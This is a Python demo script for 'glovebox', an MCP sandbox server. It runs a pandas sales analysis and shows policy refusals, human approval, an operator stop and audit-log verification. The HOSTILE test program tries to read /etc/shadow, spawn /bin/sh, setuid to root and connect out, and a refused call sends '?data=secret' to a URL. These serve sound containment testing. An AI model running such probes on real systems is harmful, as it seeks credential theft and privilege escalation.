"""``make demo``: a real MCP client, a real sandbox, a real data set, two refusals, a yes, a stop, and the record of it.

Nothing here is special to the demo: every call goes through ``glovebox serve`` as any client's would. Exit code 0 only
if everything came out as it should. What it leaves is in ./demo-output.
"""

import base64
import json
import os
import shutil
import sys
import tempfile
import textwrap
import time
from collections.abc import Mapping
from importlib.metadata import version
from pathlib import Path
from subprocess import DEVNULL  # noqa: TID251 - a constant; anyio starts the programs
from typing import Any

import anyio
import mcp_types as types
from mcp import Client, StdioServerParameters
from rich.console import Console
from rich.text import Text

from glovebox_server.tools import TOOLS

HERE = Path(__file__).resolve().parent.parent
GLOVEBOX = Path(sys.executable).with_name("glovebox")
OUTPUT = HERE / "demo-output"
STATE = OUTPUT / "state"
STATE_OPTION = ("--state-dir", str(STATE))
SECCOMP_FILTER = 2
"""The kernel's number for a filter, see proc_pid_status(5)."""
NAME = types.Implementation(name="glovebox demo", version=version("glovebox-mcp"))
"""What the client calls itself; the audit log keeps it."""
INDENT = " " * 5
TIMEOUT_SECONDS = 60.0
"""Seconds for one call; the slowest takes about three on a small machine."""

ANALYSIS = """
import pandas as pd, matplotlib.pyplot as plt

orders = pd.read_csv("/workspace/sales.csv", parse_dates=["date"])
sold = orders[orders.units > 0]
sold = sold.assign(revenue=sold.units * sold.unit_price * (1 - sold.discount_percent / 100))
by_month = sold.pivot_table(index=sold.date.dt.month, columns="product", values="revenue", aggfunc="sum").fillna(0)

by_month.plot.bar(stacked=True, figsize=(9, 4), rot=0, xlabel="month", title="Revenue by month and product")
plt.legend(loc="upper left", bbox_to_anchor=(1, 1))
plt.tight_layout()
by_month.to_csv("/output/by_month.csv")

print(f"{len(orders)} orders, {(orders.units < 0).sum()} returned, {orders.region.isna().sum()} without a region")
sold.groupby("product").revenue.agg(["count", "sum"]).sort_values("sum", ascending=False).round(0).astype(int)
"""

HOSTILE = """
import os, socket

def attempt(what, act):
    try:
        print(f"{what:30} {act()!r}  <- IT WORKED")
    except Exception as refusal:
        print(f"{what:30} {getattr(refusal, 'strerror', refusal)}")

attempt("connect to the internet", lambda: socket.create_connection(("192.0.2.1", 443), 3))
attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
attempt("list /home", lambda: os.listdir("/home"))
attempt("overwrite /workspace/sales.csv", lambda: open("/workspace/sales.csv", "w"))
attempt("start a shell", lambda: os.execv("/bin/sh", ["sh"]))
attempt("become root", lambda: os.setuid(0))
"""


POLICY = """\
version = 1
default = "analyst"
[roles.analyst]
tools = ["run_python"]
[[roles.analyst.approval]]
name = "programs"
when = "always"
by = "client"
[[example]]
principal = "local:0"
call = { tool = "run_python", arguments = { code = "1" } }
expect = "ask"
"""
"""Each program waits for a yes of the person at the client."""

LONG = "import time\ntime.sleep(25)"
STOP_SECONDS = 1.0
"""Within which a stop has to end what runs, as the documentation promises for bubblewrap."""


class Surprise(Exception):  # noqa: N818 - what it is called when it is shown
    """Something did not come out as it should."""


class Show:
    """Numbered steps on the terminal, each with its time."""

    def __init__(self) -> None:
        self.console = Console(highlight=False, soft_wrap=True)
        self._number = 0
        self._since = time.perf_counter()

    def step(self, title: str) -> None:
        """Begin the next step."""
        self._number += 1
        self._since = time.perf_counter()
        self.console.print(f"\n[bold cyan]{self._number}[/]  [bold]{title}[/]")

    def done(self, words: str) -> None:
        """End it, with what came of it and how long it took."""
        milliseconds = (time.perf_counter() - self._since) * 1000
        self.console.print(f"   [green]✓[/] {words} [dim]({milliseconds:,.0f} ms)[/]")

    def quote(self, text: str, style: str = "dim") -> None:
        """Show what a program said: untrusted, so without any markup."""
        clean = "".join(sign for sign in text.rstrip() if sign.isprintable() or sign == "\n")
        for line in clean.splitlines():
            for part in textwrap.wrap(line, self.console.width - len(INDENT), drop_whitespace=False) or [""]:
                self.console.print(Text(INDENT + part, style=style))


def expect(condition: object, otherwise: str) -> None:
    """Raise Surprise unless something is so."""
    if not condition:
        raise Surprise(otherwise)


async def glovebox(*arguments: str, show: bool = False) -> str:
    """Run a command of the installed program; returns what it printed. ``show`` lets it write to the terminal."""
    out, err = (None, None) if show else (-1, -1)
    done = await anyio.run_process([str(GLOVEBOX), *arguments], stdin=DEVNULL, stdout=out, stderr=err, check=False)
    words = (done.stdout or b"").decode()
    expect(done.returncode == 0, f"`glovebox {' '.join(arguments)}` ended with {done.returncode}. {words}")
    return words


async def check() -> None:
    """Ask ``glovebox doctor`` before the half minute that the first setup takes."""
    done = await anyio.run_process([str(GLOVEBOX), "doctor", "--json"], stdin=DEVNULL, check=False)
    expect(done.stdout, f"`glovebox doctor` ended with {done.returncode}. {done.stderr.decode()}")
    report = json.loads(done.stdout)
    expect(not report["profiles"]["error"], f"a profile is wrong: {report['profiles']['error']}")
    drivers = {driver["driver"]: driver for driver in report["drivers"]}
    # What the demo's own setup adds is not missing.
    gaps = [
        f"{each['what']}\n  → {each['fix']}"
        for each in drivers["bubblewrap"]["missing"]
        if each["fatal"] and "`glovebox setup`" not in each["fix"]
    ]
    expect(not gaps or drivers["docker"]["usable"], "no sandbox can be made here: " + "\n".join(gaps))


async def call(client: Client, tool: str, **arguments: Any) -> tuple[types.CallToolResult, Mapping[str, Any]]:
    """Call a tool; returns the result and its structured content."""
    result = await client.call_tool(tool, arguments)
    return result, result.structured_content or {}


async def analyse(client: Client, show: Show) -> str:
    """Look at the data, run an analysis, get its plot and its file back; returns the call's id."""
    show.step("The model looks at the data: read_workspace_file")
    result, _ = await call(client, "read_workspace_file", path="sales.csv", limit=4)
    expect(not result.is_error, f"reading failed: {text_of(result)}")
    show.done("the first lines of a file it may read")
    show.quote("\n".join(text_of(result).splitlines()[:5]))

    show.step("The model analyses it: run_python with pandas and matplotlib")
    result, found = await call(client, "run_python", code=ANALYSIS)
    expect(not result.is_error and found.get("ended") == "exited", f"the analysis failed: {text_of(result)}")
    images = [block for block in result.content if isinstance(block, types.ImageContent)]
    expect(len(images) == 1, f"one plot was expected, {len(images)} came back")
    (OUTPUT / "plot.png").write_bytes(base64.b64decode(images[0].data))
    artifact = found["artifacts"][0]
    read = await client.read_resource(artifact["uri"])
    content = read.contents[0]
    table = base64.b64decode(content.blob) if isinstance(content, types.BlobResourceContents) else content.text.encode()
    expect(len(table) == artifact["bytes"], "the file is not what was announced")
    (OUTPUT / artifact["name"]).write_bytes(table)
    show.done("a table, a plot and a file came back")
    show.quote(f"{found['stdout']['text']}{found['value']}", style="")
    show.console.print("     [green]→ demo-output/plot.png[/], [green]demo-output/by_month.csv[/]")
    return str(found["call_id"])


async def refuse(client: Client, show: Show) -> None:
    """Two calls that policy refuses, with its reasons."""
    for title, tool, arguments, rule in (
        (
            "tries to send data away: fetch_url",
            "fetch_url",
            {"url": "https://example.com/?data=secret"},
            "network.allow",
        ),
        (
            "asks for more time than it may have: run_python",
            "run_python",
            {"code": "1", "timeout_seconds": 300.0},
            "limits.wall_seconds",
        ),
    ):
        show.step(f"The model {title}")
        result, found = await call(client, tool, **arguments)
        refused = found.get("refused") or {}
        expect(result.is_error and refused, f"this should have been refused: {text_of(result)}")
        expect(refused["rule"] == rule, f"refused by {refused['rule']}, not by {rule}")
        show.done(f"[red]refused[/] by the rule [bold]{rule}[/]; nothing was started")
        show.quote(refused["reason"], style="yellow")
        show.quote(refused["hint"], style="dim")


async def attack(client: Client, show: Show) -> None:
    """A program that policy lets run and that finds nothing to harm."""
    show.step("A hostile program is let in: run_python")
    result, found = await call(client, "run_python", code=HOSTILE)
    printed = found.get("stdout", {}).get("text", "")
    all_tried = len(printed.splitlines()) == HOSTILE.count("\nattempt(")
    expect(all_tried and "IT WORKED" not in printed, f"the sandbox let something through: {text_of(result)}")
    show.done("it ran, and every attempt failed")
    show.quote(printed, style="yellow")


class Person:
    """Who sits at the client: reads each question, and says yes."""

    def __init__(self) -> None:
        self.read: list[str] = []

    async def answer(self, context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:  # noqa: ARG002 - the SDK's names
        """What a client's form sends back."""
        self.read.append(params.message)
        return types.ElicitResult(action="accept", content={"answer": "allow"})


async def approve_and_stop(client: Client, person: Person, show: Show) -> None:
    """A program that somebody has to approve, and that an operator ends while it runs; then work goes on."""
    show.step("Under a policy that asks, the person at the client reads each program first: run_python")
    answers: list[Mapping[str, Any]] = []

    async def run() -> None:
        answers.append((await call(client, "run_python", code=LONG))[1])

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(run)
        with anyio.fail_after(TIMEOUT_SECONDS):
            while not (person.read and await at_work()):
                expect(not answers, f"it did not run: {answers}")
                await anyio.sleep(0.05)
        expect("time.sleep(25)" in person.read[0], f"the question does not show the program: {person.read}")
        show.done("they said yes; that is for exactly this call")
        lines = person.read[0].splitlines()
        program = next(number for number, line in enumerate(lines) if line.startswith("The program"))
        show.quote("\n".join([*lines[:3], "…", *lines[program:]]), style="yellow")

        show.step("An operator stops it on another terminal: glovebox stop --tool run_python")
        because = ("--tool", "run_python", "--because", "the demo shows it")
        stopped = json.loads(await glovebox("stop", *because, "--json", *STATE_OPTION))["stop"]
        since = time.perf_counter()
    took = time.perf_counter() - since
    refused = answers[0].get("refused") or {}
    expect(refused.get("rule") == "stop", f"it was not stopped: {answers}")
    expect(took < STOP_SECONDS, f"it ended {took:.1f} s after the stop")
    show.done("it ended with the command; new calls are refused until [bold]glovebox resume[/]")
    show.quote(refused["reason"], style="yellow")
    await glovebox("resume", stopped["id"], *STATE_OPTION)
    _, found = await call(client, "run_python", code="6 * 7")
    expect(found.get("value") == "42", f"nothing runs after `glovebox resume`: {found}")


async def at_work() -> bool:
    """Whether the last call has a sandbox by now, as the record says; others, of no call, may stand behind it."""
    records = map(json.loads, (await glovebox("audit", "tail", "-n", "5", "--json", *STATE_OPTION)).splitlines())
    return [record["kind"] for record in records if "call_id" in record][-1:] == ["sandbox.started"]


async def prove(call_id: str, show: Show) -> None:
    """What was measured inside the sandbox, and that the record of everything is whole."""
    show.step("What held the analysis? Measured inside its sandbox before it ran: glovebox audit show")
    records = [
        json.loads(line) for line in (await glovebox("audit", "show", call_id, "--json", *STATE_OPTION)).splitlines()
    ]
    started = next(record["data"] for record in records if record["kind"] == "sandbox.started")
    expect(started["verified"], "the isolation was not verified")
    show.done(f"{started['driver']}, level [bold]{started['level']}[/]: as planned, or it would not have run")
    table = next(record["data"] for record in records if record["data"].get("digest") == started["table"])
    show.quote(isolation({**table["measured"], **started["measured"]}))

    show.step("Was the record changed since? glovebox audit verify")
    verdict = json.loads(await glovebox("audit", "verify", "--json", *STATE_OPTION))
    expect(verdict["ok"], f"the audit log is not whole: {verdict['problems']}")
    show.done(f"{verdict['records']} records, chained by hash and whole; the last is {verdict['head']['hash'][:16]}…")


def isolation(measured: Mapping[str, Any]) -> str:
    """The measured facts a person asks about first."""
    fixed = [mount["target"] for mount in measured["mounts"] if not mount["writable"] and mount["target"] != "/dev"]
    scratch = [mount["target"] for mount in measured["mounts"] if mount["type"] == "tmpfs" and mount["writable"]]
    rows = {
        "user": f"{measured['uid']}, capabilities: {measured['capabilities'] or 'none'}, "
        f"can gain privileges: {'no' if measured['no_new_privs'] else 'yes'}",
        "system calls": "filtered" if measured["seccomp"] == SECCOMP_FILTER else f"mode {measured['seccomp']}",
        "own namespaces": ", ".join(sorted(measured["namespaces"])),
        "network": f"{', '.join(measured['interfaces'])} and nothing else",
        "read-only": ", ".join(fixed),
        "in memory, gone now": ", ".join(scratch),
    }
    return "\n".join(f"{name:20} {value}" for name, value in rows.items())


def text_of(result: types.CallToolResult) -> str:
    """All text of a result."""
    return "\n".join(block.text for block in result.content if isinstance(block, types.TextContent))


async def demo(show: Show) -> None:
    """The whole of it."""
    began = time.perf_counter()
    shutil.rmtree(OUTPUT, ignore_errors=True)
    STATE.mkdir(mode=0o700, parents=True)
    show.console.print("[bold]Glovebox[/]: an MCP client does some work with it.")

    await check()
    show.step("The sandboxes' Python: glovebox setup (about half a minute the first time)")
    await glovebox("setup", show=True)
    show.done("ready; from here on nothing needs a network")

    with tempfile.TemporaryDirectory(prefix="glovebox-demo-") as directory:
        workspace = Path(directory)
        workspace.chmod(0o755)  # as root, sandboxes run as another user
        shutil.copyfile(HERE / "examples" / "sales.csv", workspace / "sales.csv")
        (workspace / "sales.csv").chmod(0o644)
        options = ["serve", "--workspace", str(workspace), "--log-level", "warning", *STATE_OPTION]
        environment = {name: value for name, value in os.environ.items() if name.startswith(("GLOVEBOX_", "XDG_"))}
        server = StdioServerParameters(command=str(GLOVEBOX), args=options, env=environment)
        show.step("A client connects: glovebox serve, MCP over stdio")
        async with Client(server, read_timeout_seconds=TIMEOUT_SECONDS, client_info=NAME) as client:
            tools = {tool.name for tool in (await client.list_tools()).tools}
            shipped = {name for name, tool in TOOLS.items() if not tool.proposes}  # that one needs a profile
            expect(tools == shipped, f"other tools than expected: {sorted(tools)}")
            show.done(f"MCP {client.protocol_version}; {len(tools)} tools and no shell")
            show.quote(", ".join(sorted(tools)))
            analysed = await analyse(client, show)
            await refuse(client, show)
            await attack(client, show)
        policy, person = OUTPUT / "policy.toml", Person()
        policy.write_text(POLICY)
        policy.chmod(0o600)
        asking = server.model_copy(update={"args": [*options, "--policy", str(policy)]})
        async with Client(
            asking, read_timeout_seconds=TIMEOUT_SECONDS, client_info=NAME, elicitation_callback=person.answer
        ) as client:
            await approve_and_stop(client, person, show)
    await prove(analysed, show)
    show.console.print(
        f"\n[bold green]✓ All as it should be[/], in {time.perf_counter() - began:.1f} s. Look at "
        "[green]demo-output/plot.png[/], or at the record: "
        f"[cyan].venv/bin/glovebox audit tail --state-dir demo-output/state[/]"
    )


def main() -> int:
    """Run it; 1 with a sentence if anything was not as it should be."""
    show = Show()
    try:
        anyio.run(demo, show)
    except BaseExceptionGroup as group:
        problem: BaseException = group
        while isinstance(problem, BaseExceptionGroup):
            problem = problem.exceptions[0]
        show.console.print(f"\n[bold red]✗[/] {type(problem).__name__}:", Text(str(problem)))
        return 1
    except Surprise as problem:
        show.console.print("\n[bold red]✗[/]", Text(str(problem)))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
